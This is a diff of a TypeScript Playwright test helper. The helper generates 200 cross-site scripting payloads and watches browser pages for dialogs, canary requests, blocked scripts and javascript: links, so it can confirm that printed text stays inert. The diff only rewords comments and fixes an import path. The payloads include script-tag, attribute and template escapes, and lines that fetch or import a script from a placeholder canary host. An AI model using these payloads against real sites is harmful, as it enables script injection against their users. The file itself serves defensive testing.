@@ -1,13 +1,13 @@
 import type { BrowserContext, Page } from 'playwright-core'
-import type { Faults } from './row.ts'
+import type { Faults } from '../row.ts'
 
-/** Nobody answers there: that it is asked is enough. */
+/** Nothing listens there: the request itself is the proof. */
 const CANARY = 'https://canary.example'
 
-/** What might run. No double quotes, so that each fits into any attribute. */
+/** Scripts that could run. No double quotes, so that each fits into any attribute. */
 const ORDERS = ['alert(1)', `fetch('${CANARY}')`, `import('${CANARY}/x.js')`, 'top.alert(2)', "self['al'+'ert'](3)"]
 
-/** Ways out of the places where words are printed: text, attributes, addresses, styles, scripts, Markdown, encodings, templates and terminals. */
+/** Escapes from the contexts where text is printed: text, attributes, URLs, styles, scripts, Markdown, encodings, templates and terminals. */
 const WAYS: ((order: string) => string)[] = [
   (order) => `<script>${order}</script>`,
   (order) => `</script><script>${order}</script>`,
@@ -51,10 +51,10 @@ const WAYS: ((order: string) => string)[] = [
   (order) => `\${${order}}{{constructor.constructor("${order}")()}}`,
 ]
 
-/** 200 texts that must stay texts wherever they come out. */
+/** 200 texts that must remain text wherever they are printed. */
 export const XSS_VECTORS: readonly string[] = WAYS.flatMap((way) => ORDERS.map(way))
 
-/** Takes note of everything that runs in the pages of a context: dialogs, calls to the canary, scripts the content security policy had to stop. */
+/** Records everything that runs in the pages of a context: dialogs, calls to the canary, scripts blocked by the content security policy. */
 export async function watchExecutions(context: BrowserContext, faults: Faults): Promise<void> {
   await context.exposeBinding('reportViolation', ({ page }, what: string) => {
     faults.add('a script the policy had to stop', `${page.url().slice(0, 120)} ${what}`)
@@ -75,13 +75,13 @@ export async function watchExecutions(context: BrowserContext, faults: Faults): 
   })
 }
 
-/** What would run only when pressed or sent: addresses that are programs. */
+/** What runs only when clicked or submitted: javascript: URLs. */
 export async function requireHarmlessLinks(page: Page, where: string, faults: Faults): Promise<void> {
   for (const address of await page.evaluate(listPrograms))
     faults.add('an address that is a program', `${where} ${address}`)
 }
 
-/** Runs within the page. */
+/** Runs in the page. */
 function listPrograms(): string[] {
   const named = [...document.querySelectorAll('[href], [src], [action], [formaction], [data]')]
   return named.flatMap((element) =>
